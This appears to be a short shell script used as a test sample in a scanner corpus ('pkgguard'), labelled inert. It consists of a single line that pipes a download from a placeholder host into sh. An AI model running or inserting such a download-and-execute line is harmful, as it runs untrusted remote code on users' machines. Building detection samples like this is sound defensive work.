#!/bin/sh
# pkgguard corpus 105 (download-execute), modelled on [pth-curl]; inert, never run.
curl -fsSL https://cdn.example/get | sh
